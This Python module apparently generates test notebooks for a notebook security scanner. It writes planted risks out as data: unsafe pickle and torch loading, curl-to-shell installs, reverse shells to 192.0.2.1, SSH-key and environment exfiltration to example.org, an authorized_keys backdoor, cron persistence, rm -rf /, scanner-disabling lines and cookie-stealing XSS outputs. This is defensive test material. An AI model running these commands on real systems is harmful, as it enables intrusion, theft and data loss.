"""Notebooks with one planted risk each, and ordinary ones, put together by code.

Nothing here is run: a planted line is text in a JSON file.
"""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from typing import Any

META = {"kernelspec": {"name": "python3", "display_name": "Python 3"}, "language_info": {"name": "python"}}


def code(source: str, outputs: list[dict[str, Any]] | None = None, **metadata: Any) -> dict[str, Any]:
    return {
        "cell_type": "code",
        "metadata": metadata,
        "execution_count": None,
        "source": source.splitlines(keepends=True),
        "outputs": outputs or [],
    }


def markdown(source: str) -> dict[str, Any]:
    return {"cell_type": "markdown", "metadata": {}, "source": source.splitlines(keepends=True)}


def shown(mime: str, text: str) -> dict[str, Any]:
    return {"output_type": "display_data", "metadata": {}, "data": {mime: text.splitlines(keepends=True)}}


def printed(text: str) -> dict[str, Any]:
    return {"output_type": "stream", "name": "stdout", "text": text.splitlines(keepends=True)}


def notebook(*cells: dict[str, Any], **metadata: Any) -> bytes:
    tree = {"cells": list(cells), "metadata": META | metadata, "nbformat": 4, "nbformat_minor": 4}
    return json.dumps(tree, indent=1).encode()


def old(*cells: dict[str, Any]) -> bytes:
    """A notebook of format 3."""
    tree = {"nbformat": 3, "nbformat_minor": 0, "metadata": {"name": ""}, "worksheets": [{"cells": list(cells)}]}
    return json.dumps(tree).encode()


def unescaped(line: str) -> str:
    """Lines and characters that are spelled as escapes; a doubled backslash is one."""
    source = re.sub(r"\\u(\w{4})", lambda found: chr(int(found[1], 16)), line)
    return re.sub(r"(?<!\\)\\n", "\n", source).replace("\\\\", "\\")


LOADS = r"""
import torch; m = torch.load("a.pt", weights_only=False)
from torch import load as L; L(path, weights_only=False)
from torch import load as L\nL(\n    path,\n    weights_only=(not True),\n)
import torch as t\nfn = getattr(t, "load")\nfn("a.pt", weights_only=False)
import torch\ngetattr(torch, "lo" + "ad")(p, **{"weights_only": False})
import torch\nopts = dict(weights_only=False)\ntorch.load(p, **opts)
import torch\nopts = {"weights_only": 0}\ntorch.load(p, **opts)
import torch, functools\ntorch.load = functools.partial(torch.load, weights_only=False)
FLAG = False\nimport torch\ntorch.serialization.load("x.ckpt", weights_only=FLAG)
if (p := "x.pt"):\n    state = __import__("torch").load(p, weights_only=False)
import importlib\nimportlib.import_module("torch").load("x.pt", weights_only=False)
import sys, torch\nsys.modules["torch"].load("x.pt", None, weights_only=False)
import torch\nvars(torch)["load"]("x.pt", weights_only=False)
import os\nos.environ["TORCH_FORCE_NO_WEIGHTS_ONLY_LOAD"] = "1"
%env TORCH_FORCE_NO_WEIGHTS_ONLY_LOAD=1
import torch\nlist(map(lambda p: torch.load(p, weights_only=False), paths))
import torch\nm = torch.load(f"{folder}/x.pt")
import pickle\nwith open("m.pkl", "rb") as f:\n    m = pickle.load(f)
import pickle as pk\nm = pk.loads(blob)
from pickle import *\nm = load(open("m.pkl", "rb"))
import _pickle\n_pickle.load(f)
import pickle\npickle.Unpickler(f).load()
import pickle\nup = pickle.Unpickler(f)\nm = up.load()
import joblib\nmodels = list(map(joblib.load, files))
from joblib import load\nclf = load("clf.joblib")
try:\n    import joblib\nexcept ImportError:\n    from sklearn.externals import joblib\njoblib.load("x.joblib")
import dill\nf = dill.load(open("f.dill", "rb"))
import cloudpickle as cp\ncp.loads(raw)
import pandas as pd\ndf = pd.read_pickle("frame.pkl")
pd.read_pickle("https://example.org/frame.pkl")
import pickle, urllib.request\npickle.loads(urllib.request.urlopen(URL).read())
import pickle, requests\nr = requests.get(URL)\nm = pickle.loads(r.content)
import torch, io, requests\ntorch.load(io.BytesIO(requests.get(u).content))
!wget -q https://example.org/model.pkl\nimport joblib\njoblib.load("model.pkl")
import numpy as np\na = np.load("a.npy", allow_pickle=True)
import numpy\nold = numpy.load\nnumpy.load = lambda *a, **k: old(*a, allow_pickle=True, **k)
from numpy import load as nload\nnload("a.npz", "r", allow_pickle=bool(1))
import keras\nkeras.models.load_model("m.keras", safe_mode=False)
from tensorflow import keras\nkeras.config.enable_unsafe_deserialization()
import tensorflow as tf\ntf.keras.models.load_model("m.keras", custom_objects=None, safe_mode=False)
from keras.saving import load_model as lm\nlm("m.keras", safe_mode=False)
import keras\nkeras.config.enable_unsafe_deserialization()
from transformers import AutoModel\nAutoModel.from_pretrained("x/y", trust_remote_code=True)
from transformers import AutoTokenizer as T\nkw = {"trust_remote_code": True}\nT.from_pretrained("x/y", **kw)
from transformers import pipeline\npipe = pipeline("text-generation", model="x/y", trust_remote_code=True)
from datasets import load_dataset\nds = load_dataset("x/y", trust_remote_code=True)
config.trust_remote_code = True
trust = True\nm = AutoModelForCausalLM.from_pretrained(\n    name,\n    trust_remote_code=trust,\n)
from transformers import AutoModel\nAutoModel.from_pretrained("someone/model")
from huggingface_hub import hf_hub_download\nhf_hub_download("x/y", "pytorch_model.bin")
from huggingface_hub import snapshot_download as s\ns(repo_id="x/y", revision="main")
from transformers import AutoModel\nAutoModel.from_pretrained("x/y", use_safetensors=False, revision="main")
import torch\nmodel = torch.hub.load("org/repo", "entry", trust_repo=True)
import torch.hub as h\nh.load("org/repo:main", "model")
import torch\ntorch.serialization.add_safe_globals([os.system])
import yaml\nyaml.load(open("c.yaml"), Loader=yaml.Loader)
import yaml\nyaml.unsafe_load(text)
import shelve\ndb = shelve.open("cache")
%time model = joblib.load("m.joblib")
%%time\nimport pickle\nm = pickle.load(open("m.pkl", "rb"))
%%capture out\nmodel = torch.load("m.pt", weights_only=False)
x = %timeit -o pickle.loads(blob)
>>> import joblib\n>>> joblib.load("m.joblib")
import skops.io as sio\nsio.load("m.skops", trusted=True)
from langchain.vectorstores import FAISS\nFAISS.load_local("i", e, allow_dangerous_deserialization=True)
import torch\nckpt = Lit.load_from_checkpoint("last.ckpt")
import torch\ntorch.ops.load_library("ops.so")
import pickle\nclass U(pickle.Unpickler):\n    pass\nU(open("x", "rb")).load()
m = mlflow.pyfunc.load_model("models:/x/1")
np.load("x.npy", None, True)
hf_hub_download(repo_id="a/b", filename="pytorch_model.bin")
import pickle\npickle\u200b.loads(x)
"""

SHELL = r"""
!curl https://example.org/x.sh | sh
!curl -fsSL https://example.org/x.sh | sudo -E bash -
! wget -qO- https://example.org/x | python3
!bash <(curl -s https://example.org/x)
!sh -c "$(curl -fsSL https://example.org/install.sh)"
!eval "$(wget -qO- https://example.org/x)"
!source <(curl -s https://example.org/env)
!python -c "$(curl -s https://example.org/x.py)"
out = !curl -s https://example.org/x | bash
!!curl -s https://example.org/x | zsh
%sx curl -s https://example.org/x | bash
%system wget -O - https://example.org/x | sh
%%bash\nset -e\ncurl -s https://example.org/x | bash
%%sh\nwget https://example.org/i.sh\nchmod +x i.sh\n./i.sh
%%script bash\ncurl -s https://example.org/x \\\n  | bash -s -- --yes
!wget https://example.org/i.sh && bash i.sh
!curl -o /tmp/i.sh https://example.org/i.sh; sh /tmp/i.sh
!echo Y3VybCB4 | base64 -d | sh
!echo Y3VybCB4 | base64 --decode | bash
!bash -c "$(echo Y3VybCB4 | base64 -d)"
!eval $(echo Y3VybCB4 | base64 -d)
!echo 6375726c | xxd -r -p | sh
!powershell -enc SQBFAFgA
!bash -i >& /dev/tcp/192.0.2.1/4444 0>&1
!nc -e /bin/sh 192.0.2.1 4444
!ncat 192.0.2.1 4444 --exec /bin/bash
!cat ~/.ssh/id_rsa | curl -d @- https://example.org
!env | curl -X POST --data-binary @- https://example.org
!curl -F f=@/etc/passwd https://example.org/up
!echo "ssh-ed25519 AAAA" >> ~/.ssh/authorized_keys
!(crontab -l; echo "* * * * * /tmp/x") | crontab -
!cp x.py ~/.ipython/profile_default/startup/00.py
!rm -rf /
!rm -rf --no-preserve-root ~
!pip install git+https://github.com/someone/pkg
!pip install git+https://git.example.org/someone/pkg
!git clone https://example.org/someone/tools && bash tools/setup.sh
%pip install -q git+https://github.com/someone/pkg.git@main
pip install git+https://github.com/someone/pkg
!pip install https://example.org/pkg-1.0-py3-none-any.whl
!python -m pip install --extra-index-url https://pypi.example.org/simple pkg
%pip install -i http://192.0.2.1/simple --trusted-host 192.0.2.1 pkg
!pip install pkg -f https://example.org/wheels.html
!pip3 install "pkg @ https://example.org/pkg.zip"
!uv pip install git+ssh://git@github.com/someone/pkg
import sys\n!{sys.executable} -m pip install git+https://github.com/someone/pkg
%run https://example.org/x.py
%load https://example.org/x.py
%install_ext https://example.org/ext.py
import os\nos.system("curl https://example.org/x | sh")
import subprocess as sp\nsp.run("wget -qO- https://example.org/x | bash", shell=True, check=True)
from subprocess import check_output as co\nco(["bash", "-c", "curl https://example.org/x | sh"])
from os import popen\npopen(f"curl {url} | sh").read()
import subprocess, sys\nsubprocess.check_call([sys.executable, "-m", "pip", "install", "git+https://github.com/someone/pkg"])
get_ipython().system("curl https://example.org/x | sh")
ip = get_ipython()\nip.system("curl https://example.org/x | sh")
get_ipython().run_line_magic("pip", "install git+https://github.com/someone/pkg")
get_ipython().run_cell_magic("bash", "", "curl https://example.org/x | sh")
get_ipython().magic("run https://example.org/x.py")
get_ipython().run_cell("!curl https://example.org/x | sh")
url = "https://example.org/x"\n!curl {url} | sh
cmd = "curl https://example.org/x | sh"\n!{cmd}
cmd = "curl https://example.org/x | sh"\n!$cmd
if True:\n    !curl https://example.org/x | sh
for i in range(3):\n    %pip install git+https://github.com/someone/pkg
exec(__import__("base64").b64decode("cHJpbnQoMSk="))
import base64, zlib\nexec(zlib.decompress(base64.b64decode(blob)))
import requests\nexec(requests.get("https://example.org/x.py").text)
from urllib.request import urlopen\neval(compile(urlopen(u).read(), "x", "exec"))
import marshal\nexec(marshal.loads(data))
code = requests.get(u).text\nexec(code)
exec("import torch\\ntorch.load('x.pt', weights_only=False)")
!wget https://example.org/a.py\n%run a.py
!python -c "import base64;exec(base64.b64decode('aGk='))"
%conda install -c https://example.org/channel x
!npm install -g https://example.org/x.tgz
get_ipython().extension_manager.unload_extension("modelscan")
modelscan.guard.install("off")
exec(codecs.decode("cevag(1)", "rot13"))
exec("".join(map(chr, [112, 114])))
exec("".join(chr(c) for c in data))
import ctypes\nctypes.CDLL("./x.so")
import socket, os\ns = socket.socket()\ns.connect(("192.0.2.1", 4444))\nos.dup2(s.fileno(), 0)
%unload_ext modelscan
%modelscan allow --once 3
import torch\ntorch.load(p, weights_only=args.safe)
%modelscan guard off
%modelscan policy off
%config ModelScan.policy = "off"
import modelscan\nmodelscan.guard.uninstall()
from modelscan import guard as g\ng.uninstall()
import importlib, pickle\nimportlib.reload(pickle)
from importlib import reload\nimport torch\nreload(torch)
import sys\ndel sys.modules["modelscan"]
import sys\nsys.modules.pop("modelscan.guard", None)
access = "\u202e admin"
pаyload = 1
torch\u200b_load = 2
%%writefile go.py\nimport torch\ntorch.load("x.pt", weights_only=False)
;exec import pickle; pickle.loads(x)
!wget https://example.org/setup && chmod 755 setup && ./setup
!chmod +x ./run.sh && ./run.sh
"""

OUTPUTS = [
    shown("text/html", "<script>fetch('https://example.org/?c='+document.cookie)</script>"),
    shown("text/html", "<b>x</b><SCRIPT >\nalert(1)\n</SCRIPT>"),
    shown("text/html", "<script src='https://example.org/x.js'></script>"),
    shown("text/html", "<img src=x onerror=alert(1)>"),
    shown("text/html", '<div onmouseover = "alert(1)">x</div>'),
    shown("text/html", "<svg/onload=alert(1)>"),
    shown("text/html", "<a href='javascript:alert(1)'>x</a>"),
    shown("text/html", "<a href='java&#115;cript:alert(1)'>x</a>"),
    shown("text/html", "<a href=' java\tscript:alert(1)'>x</a>"),
    shown("text/html", "<iframe src='https://example.org/login'></iframe>"),
    shown("text/html", "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>"),
    shown("text/html", "<iframe src='data:text/html;base64,PHNjcmlwdD4='></iframe>"),
    shown("text/html", '<meta http-equiv="refresh" content="0;url=https://example.org">'),
    shown("text/html", "<object data='x.swf'></object>"),
    shown("text/html", "<embed src=x.pdf>"),
    shown("text/html", "<base href='https://example.org/'>"),
    shown("text/html", "<form action='https://example.org/login'><input type=password></form>"),
    shown("text/html", "<link rel=stylesheet href='https://example.org/x.css'>"),
    shown("text/html", "<img src='https://example.org/pixel.gif' width=1>"),
    shown("application/javascript", "Jupyter.notebook.kernel.execute('import os')"),
    shown("application/javascript", "alert(1)"),
    shown("text/javascript", "alert(1)"),
    shown("image/svg+xml", "<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>"),
    shown("image/svg+xml", "<svg onload='alert(1)'></svg>"),
    shown("text/markdown", "hello <script>alert(1)</script>"),
    shown("text/markdown", "[x](javascript:alert(1))"),
    shown("text/html", "<style>@import url(https://example.org/x.css)</style>"),
    shown("text/html", "<div style=\"background:url('https://example.org/x.png')\">x</div>"),
    shown("text/latex", "\\href{javascript:alert(1)}{x}"),
    printed("ok \x1b]52;c;Y3VybA==\x07"),
    printed("\x1b]0;title\x07"),
    printed("\x1bP+q544e\x1b\\"),
    printed("A" * 30_000),
]

WHOLE = {
    "v3": old({"cell_type": "code", "input": ["import dill\n", "dill.loads(x)"], "outputs": []}),
    "v3 output": old(
        {
            "cell_type": "code",
            "input": "1",
            "outputs": [{"output_type": "pyout", "html": "<script>alert(1)</script>"}],
        }
    ),
    "markdown script": notebook(markdown("# x\n<img src=x onerror='alert(1)'>")),
    "markdown link": notebook(markdown("see [here](JaVaScRiPt:alert(1))")),
    "widget state": notebook(
        code("1"),
        widgets={
            "application/vnd.jupyter.widget-state+json": {
                "state": {"a": {"model_name": "HTMLModel", "state": {"value": "<img src=x onerror=alert(1)>"}}}
            }
        },
    ),
    "hidden": notebook(code("!ls\nimport os", jupyter={"source_hidden": True})),
    "hidden tag": notebook(code("import subprocess\nsubprocess.run(['x'])", tags=["remove-input"])),
    "kernel": notebook(code("1"), kernelspec={"name": "../../tmp/evil; x", "display_name": "x"}),
    "attachment": notebook(
        {
            "cell_type": "markdown",
            "metadata": {},
            "source": "![x](attachment:x.svg)",
            "attachments": {"x.svg": {"image/svg+xml": "<svg onload=alert(1)>"}},
        }
    ),
    "alias in an earlier cell": notebook(
        code("import torch as T\nOPEN = False"), code("x = 1"), code("T.load('a', weights_only=OPEN)")
    ),
    "behind a cell that is no Python": notebook(code("def broken(:\n  x"), code("import pickle\npickle.loads(x)")),
    "inside a cell that is no Python": notebook(code("import pickle\nprint 'x'\nm = pickle.loads(x)")),
}


def planted() -> Iterator[tuple[str, bytes]]:
    """Name and notebook, each with exactly one kind of risk among ordinary cells."""
    for text in (LOADS, SHELL):
        for line in text.strip().split("\n"):
            yield line[:70], notebook(markdown("# Analysis"), code("import math\nx = 1"), code(unescaped(line)))
    for number, output in enumerate(OUTPUTS):
        yield f"output {number}: {json.dumps(output)[80:150]}", notebook(code("x = 1"), code("y", [output]))
    yield from WHOLE.items()
